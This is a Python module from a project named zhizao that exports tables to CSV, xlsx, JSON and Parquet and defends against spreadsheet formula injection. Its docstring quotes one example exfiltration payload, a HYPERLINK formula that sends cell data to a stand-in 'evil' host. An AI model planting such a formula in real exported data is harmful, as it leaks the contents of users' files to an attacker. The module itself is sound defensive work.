"""Tables out of zhizao: one writer for CSV, Excel (xlsx), JSON and Parquet, safe to open in a spreadsheet.

Every table a person downloads or a command writes goes through this module, so the rules below hold
everywhere: ``zhizao kpi --format csv|xlsx|json|parquet`` and the other commands' ``--format``
(:func:`write_table`), the REST API's ``?format=csv|xlsx`` answers (:func:`to_bytes`), the dashboard's
downloads of every table as it is shown (:func:`display_frame`, :func:`xlsx_bytes`, :func:`csv_bytes`), the
programme workbook and ``zhizao programme|project list --format xlsx`` (:func:`write_xlsx`), the demo's CSV
files.

- **Formula injection is neutralised in spreadsheet formats.** Ids, reasons, names and every other text come
  from tenants' data. A spreadsheet program (Excel, LibreOffice, WPS) reads a cell that begins with ``=``,
  ``+``, ``-``, ``@``, a tab or a carriage return (or the full-width ``＝＋－＠``) as a formula (OWASP, "CSV
  injection"): ``=HYPERLINK("http://evil/?"&A1)`` would run when the file is opened. In CSV such a text cell
  is written with a leading apostrophe (``'=1+1``), which spreadsheet programs show as text. In xlsx the cell
  is a text cell (never a formula) with Excel's "quote prefix" style, so it keeps its exact value and stays
  text when edited. Numbers are numbers (``-5`` stays a number); only text cells (and headers) are changed.
- JSON and Parquet are for programs: values are written unchanged (JSON: one array of row objects, time
  stamps ISO 8601, NaN as null).
- CSV follows RFC 4180 (CRLF line ends, texts holding a line break or a comma quoted), UTF-8, with a byte
  order mark on request (so that Excel on Chinese Windows reads Chinese text right; the dashboard's downloads
  have one). Zoned time stamps are ISO 8601 text with their offset.
- xlsx: a header row in bold and frozen, columns sized to their text (CJK characters count twice),
  percentage columns on request; zoned time stamps become date-time cells of their wall time in their zone
  (Excel has no time zones), lists of plain values are joined with ``, ``, nested structures are JSON text,
  missing values are empty cells. Workbooks are written in openpyxl's streaming mode, so a large table does
  not build a worksheet in memory.

The dashboard exports what its tables show (translated headers, labels instead of codes, local dates):
:func:`display_frame` turns a displayed table back into typed cells (``"55.7%"`` -> 0.557 shown as a
percentage, ``"1,246"`` -> 1246, ``"—"`` -> empty).

Example
-------
>>> import pandas as pd
>>> from zhizao.export import to_bytes
>>> to_bytes(pd.DataFrame({"reason": ["=1+1", "jam"], "seconds": [-5.0, 60.0]}), "csv").decode()
"reason,seconds\\r\\n'=1+1,-5.0\\r\\njam,60.0\\r\\n"
>>> neutralise("=1+1"), neutralise("-3 dB"), neutralise("OEE")
("'=1+1", "'-3 dB", 'OEE')
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import os
import re
import tempfile
from collections.abc import Iterable, Iterator, Mapping
from decimal import Decimal
from pathlib import Path
from typing import BinaryIO

import numpy as np
import pandas as pd

from zhizao.errors import InputError
from zhizao.i18n import display_width
from zhizao.messages import define

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
#: Formats :func:`write_table` writes, and their media types.
FORMATS = {
    "csv": CSV_TYPE,
    "xlsx": XLSX_TYPE,
    "json": "application/json",
    "parquet": "application/vnd.apache.parquet",
}
#: First characters that make a spreadsheet program read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA_START = FORMULA_STARTS  # the name the dashboard's exports used
_SHEET_BAD = re.compile(r"[\[\]:*?/\\]")

UNKNOWN_FORMAT = define("export.unknown_format", "unknown table format %(format)s; one of %(formats)s")


def is_formula_like(value) -> bool:
    """Whether ``value`` is a text a spreadsheet program would read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value):
    """``value`` with a leading apostrophe if it is formula-like text (CSV's neutralisation); else unchanged."""
    return "'" + value if is_formula_like(value) else value


def _text_columns(df: pd.DataFrame) -> list:
    return [c for c in df.columns if df[c].dtype == object or isinstance(df[c].dtype, pd.StringDtype)]


def _zoned_to_text(df: pd.DataFrame) -> pd.DataFrame:
    """Zoned time stamp columns (and objects) as ISO 8601 text; a shallow copy when anything changes."""
    out = None
    for c in df.columns:
        s = df[c]
        if isinstance(s.dtype, pd.DatetimeTZDtype):
            out = df.copy() if out is None else out
            out[c] = [None if pd.isna(v) else v.isoformat() for v in s]
        elif s.dtype == object and s.map(lambda v: isinstance(v, pd.Timestamp) and v.tzinfo is not None).any():
            out = df.copy() if out is None else out
            out[c] = [v.isoformat() if isinstance(v, pd.Timestamp) else v for v in s]
    return df if out is None else out


def neutralised(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` whose formula-like text cells and headers begin with an apostrophe (for CSV); a copy when
    anything changes."""
    cols = [c for c in _text_columns(df) if df[c].map(is_formula_like).any()]
    if not cols and not any(is_formula_like(c) for c in df.columns):
        return df
    out = df.copy()
    for c in cols:
        out[c] = out[c].map(neutralise)
    out.columns = [neutralise(c) for c in out.columns]
    return out


# -- CSV
def _csv(df: pd.DataFrame, out: BinaryIO, bom: bool) -> None:
    # RFC 4180 line ends: a text holding a carriage return or a line feed is quoted, never splits a row
    text = neutralised(_zoned_to_text(df)).to_csv(index=False, lineterminator="\r\n")
    out.write((("\ufeff" if bom else "") + text).encode("utf-8"))


def csv_bytes(df: pd.DataFrame, bom: bool = True) -> bytes:
    """CSV in UTF-8, by default with a byte order mark (so that Excel on Chinese Windows reads the Chinese
    text); formula-like text cells neutralised (:func:`neutralise`)."""
    buf = io.BytesIO()
    _csv(df, buf, bom)
    return buf.getvalue()


# -- xlsx
def sheet_name(name: str, taken: set[str] | None = None) -> str:
    """A valid, unique worksheet name (at most 31 characters, no ``[]:*?/\\``)."""
    base = _SHEET_BAD.sub(" ", str(name)).strip()[:31] or "Sheet"
    name, k = base, 2
    while taken is not None and name in taken:
        suffix = f" ({k})"
        name, k = base[:31 - len(suffix)] + suffix, k + 1
    if taken is not None:
        taken.add(name)
    return name


def _cell_value(v):
    """A value a worksheet cell can hold: lists of plain values joined, nested structures as JSON text, zoned
    time stamps as their wall time, missing values None."""
    if isinstance(v, dict) or (isinstance(v, (list, tuple)) and any(isinstance(x, (dict, list, tuple)) for x in v)):
        return json.dumps(v, ensure_ascii=False, default=str)
    if isinstance(v, (list, tuple, set)):
        return ", ".join(map(str, v))
    if hasattr(v, "tolist") and not hasattr(v, "item"):
        return _cell_value(v.tolist())
    if isinstance(v, np.ndarray):
        return _cell_value(v.tolist())
    try:
        if pd.isna(v):
            return None
    except (TypeError, ValueError):
        return str(v)
    if isinstance(v, np.generic):
        v = v.item()
    if isinstance(v, float) and math.isinf(v):
        return str(v)
    if isinstance(v, (str, int, float, bool)):
        return v
    if isinstance(v, pd.Timestamp):
        v = v.to_pydatetime()
    if hasattr(v, "isoformat"):
        return v.replace(tzinfo=None) if getattr(v, "tzinfo", None) else v
    return str(v)


def _write_sheet(wb, name: str, df: pd.DataFrame, pct: set) -> None:
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    ws = wb.create_sheet(title=name)
    bold = Font(bold=True)

    def cell(v, **style):
        c = WriteOnlyCell(ws, value=None)
        c.value = v
        if isinstance(v, str):
            c.data_type = "s"  # a text cell, never a formula, whatever it begins with
            if is_formula_like(v):
                c.quotePrefix = True
        for k, x in style.items():
            setattr(c, k, x)
        return c

    heads = [str(c) for c in df.columns]
    head_rows = [[_cell_value(v) for v in row] for row in df.head(200).itertuples(index=False, name=None)]
    for k, h in enumerate(heads):
        texts = [h] + [str(r[k]) for r in head_rows if r[k] is not None]
        ws.column_dimensions[get_column_letter(k + 1)].width = min(max(8, max(map(display_width, texts)) + 2), 60)
    ws.freeze_panes = "A2"
    is_pct = [c in pct or str(c) in pct for c in df.columns]
    ws.append([cell(h, font=bold) for h in heads])
    for row in df.itertuples(index=False, name=None):
        ws.append([cell(v, number_format="0.0%") if p and isinstance(v, (int, float)) and not isinstance(v, bool)
                   else cell(v) for v, p in zip(map(_cell_value, row), is_pct)])


def xlsx_bytes(sheets: Mapping[str, pd.DataFrame], percent_columns: Mapping[str, list] | None = None) -> bytes:
    """An .xlsx workbook with one sheet per frame: header row bold and frozen, columns sized to their text,
    formula-like text cells kept as text (see the module docstring).

    Parameters
    ----------
    sheets : mapping of str to pandas.DataFrame
        Sheet name -> table (names made valid and unique; the index is not written).
    percent_columns : mapping of str to list, optional
        Sheet name -> columns whose fractions are shown as percentages (0.557 -> 55.7%).
    """
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    taken: set[str] = set()
    for name, df in sheets.items():
        _write_sheet(wb, sheet_name(name, taken), df, set((percent_columns or {}).get(name, [])))
    if not sheets:
        wb.create_sheet("Sheet")
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def write_xlsx(sheets: Mapping[str, pd.DataFrame], path, percent_columns=None):
    """Write :func:`xlsx_bytes` to ``path``; returns ``path``."""
    Path(path).write_bytes(xlsx_bytes(sheets, percent_columns))
    return path


# -- JSON
def _json(df: pd.DataFrame, out: BinaryIO) -> None:
    rows = json.loads(df.to_json(orient="records", date_format="iso", default_handler=str))
    out.write((json.dumps(rows, ensure_ascii=False, indent=1) + "\n").encode("utf-8"))


# -- one table, any format
def write_table(df: pd.DataFrame, fmt: str, dest: str | Path | BinaryIO, *, sheet: str = "zhizao",
                bom: bool = False) -> None:
    """Write a table as ``fmt`` to ``dest``.

    Parameters
    ----------
    df : pandas.DataFrame
        The table (its index is not written).
    fmt : {'csv', 'xlsx', 'json', 'parquet'}
    dest : path or binary file
        Where to write.
    sheet : str
        Name of the xlsx sheet (at most 31 characters).
    bom : bool
        Begin a CSV with a UTF-8 byte order mark (so that Excel reads Chinese text right).

    Raises
    ------
    zhizao.errors.InputError
        An unknown format.

    Notes
    -----
    CSV and xlsx neutralise formula-like text cells (see the module docstring); JSON and Parquet keep every
    value as it is.
    """
    if fmt not in FORMATS:
        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
    if isinstance(dest, (str, Path)):
        with _replacing(dest) as f:
            write_table(df, fmt, f, sheet=sheet, bom=bom)
        return
    if fmt == "csv":
        _csv(df, dest, bom)
    elif fmt == "xlsx":
        dest.write(xlsx_bytes({sheet: df}))
    elif fmt == "json":
        _json(df, dest)
    else:
        df.to_parquet(dest, index=False)


def write_tables(frames: Iterable[pd.DataFrame], fmt: str, dest: str | Path | BinaryIO, *, bom: bool = False
                 ) -> int:
    """Write the concatenation of ``frames`` (pieces of one table: the same columns, in order) as ``fmt`` to
    ``dest``, one piece at a time, so that a table larger than memory never is whole in it (the pieces of
    :meth:`zhizao.Workspace.iter_kpi`). The file is the one :func:`write_table` writes of the whole table: CSV
    byte for byte; Parquet read back as the same table (one row group per piece, the schema fixed by the first
    piece, a text column without any value in it written as text). xlsx and JSON are whole documents: their
    pieces are joined first. Returns the number of rows written.

    Raises
    ------
    zhizao.errors.InputError
        An unknown format.
    """
    if fmt not in FORMATS:
        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
    if fmt not in ("csv", "parquet"):
        frames = list(frames)
        whole = pd.concat(frames, ignore_index=True) if len(frames) > 1 else frames[0]
        write_table(whole, fmt, dest, bom=bom)
        return len(whole)
    pieces = _csv_pieces if fmt == "csv" else _parquet_pieces
    if isinstance(dest, (str, Path)):
        with _replacing(dest) as f:
            return pieces(frames, f, bom)
    return pieces(frames, dest, bom)


@contextlib.contextmanager
def _replacing(dest: str | Path) -> Iterator[BinaryIO]:
    """A file to write that takes the place of ``dest`` when the writing ends, not before: a table that fails
    half-way (its query, written piece by piece, raises) leaves ``dest`` as it was, never empty or cut."""
    dest = Path(dest)
    fd, tmp = tempfile.mkstemp(prefix=f".{dest.name}.", suffix=".part", dir=dest.parent)
    try:
        with os.fdopen(fd, "wb") as f:
            yield f
        umask = os.umask(0)
        os.umask(umask)
        # the mode a plain open() would give (mkstemp's is 0600), or the replaced file's
        os.chmod(tmp, dest.stat().st_mode & 0o777 if dest.exists() else 0o666 & ~umask)
        os.replace(tmp, dest)
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise


def _csv_pieces(frames: Iterable[pd.DataFrame], out: BinaryIO, bom: bool) -> int:
    n = 0
    for k, df in enumerate(frames):
        text = neutralised(_zoned_to_text(df)).to_csv(index=False, header=k == 0, lineterminator="\r\n")
        out.write((("\ufeff" if bom and k == 0 else "") + text).encode("utf-8"))
        n += len(df)
    return n


def _parquet_pieces(frames: Iterable[pd.DataFrame], out: BinaryIO, bom: bool = False) -> int:
    """(``bom``: for the signature of :func:`_csv_pieces`; Parquet has none.)"""
    import pyarrow as pa
    import pyarrow.parquet as pq

    writer, n = None, 0
    for df in frames:
        t = pa.Table.from_pandas(df, preserve_index=False)
        if writer is None:
            # a text column the first piece has no value of has no type yet (null); it is text
            schema = pa.schema([f.with_type(pa.string()) if pa.types.is_null(f.type) else f for f in t.schema],
                               metadata=t.schema.metadata)
            writer = pq.ParquetWriter(out, schema)
        writer.write_table(t.cast(writer.schema))
        n += len(df)
    if writer is not None:
        writer.close()
    return n


def to_bytes(df: pd.DataFrame, fmt: str, **kw) -> bytes:
    """The bytes :func:`write_table` writes (for HTTP answers and downloads)."""
    buf = io.BytesIO()
    write_table(df, fmt, buf, **kw)
    return buf.getvalue()


def media_type(fmt: str) -> str:
    """The media type of a format of :data:`FORMATS`."""
    if fmt not in FORMATS:
        raise InputError(UNKNOWN_FORMAT, format=repr(fmt), formats=list(FORMATS))
    return FORMATS[fmt]


# -- the dashboard's tables as shown
_PCT = re.compile(r"^([+-]?\d[\d,]*(?:\.\d+)?)%$")
_NUM = re.compile(r"^[+-]?\d[\d,]*(?:\.\d+)?$")


def display_frame(table: dict, null: str = "\u2014") -> tuple[pd.DataFrame, list]:
    """A displayed table (``{"head": [cells], "rows": [[cells]]}``) as a frame of typed cells.

    Returns
    -------
    (pandas.DataFrame, list)
        The frame (headers as shown; numbers as numbers, percentages as fractions, the null sign as empty)
        and the names of its percentage columns.
    """
    head = [str(h.get("text", "")) if isinstance(h, dict) else str(h) for h in table["head"]]
    # duplicate or empty headers get a number
    seen: dict[str, int] = {}
    cols = []
    for h in head:
        h = h or "-"
        seen[h] = seen.get(h, 0) + 1
        cols.append(h if seen[h] == 1 else f"{h} ({seen[h]})")
    rows, pct = [], set()
    for r in table["rows"]:
        out: list[object] = []
        for k, c in enumerate(r):
            if isinstance(c, dict) and "bar" in c and "text" not in c:
                out.append(None)
                continue
            text = str(c.get("text", "")) if isinstance(c, dict) else str(c)
            t = text.strip().replace("\u2212", "-")
            if t in (null, ""):
                out.append(None)
            elif _PCT.match(t):
                # 2.7% -> 0.027 exactly (a float division would write 0.027000000000000003 into the CSV)
                out.append(float(Decimal(t[:-1].replace(",", "")) / 100))
                pct.add(k)
            elif _NUM.match(t):
                x = float(t.replace(",", ""))
                out.append(int(x) if x.is_integer() and "." not in t else x)
            else:
                out.append(text)
        rows.append(out[:len(cols)] + [None] * (len(cols) - len(out)))
    df = pd.DataFrame(rows, columns=cols)
    keep = [c for c in cols if not (df[c].isna().all() and c.startswith("-"))]  # drop the bar columns
    return df[keep], [cols[k] for k in sorted(pct) if cols[k] in keep]


__all__ = [
    "CSV_TYPE",
    "FORMATS",
    "FORMULA_START",
    "FORMULA_STARTS",
    "XLSX_TYPE",
    "csv_bytes",
    "display_frame",
    "is_formula_like",
    "media_type",
    "neutralise",
    "neutralised",
    "sheet_name",
    "to_bytes",
    "write_table",
    "write_xlsx",
    "xlsx_bytes",
]
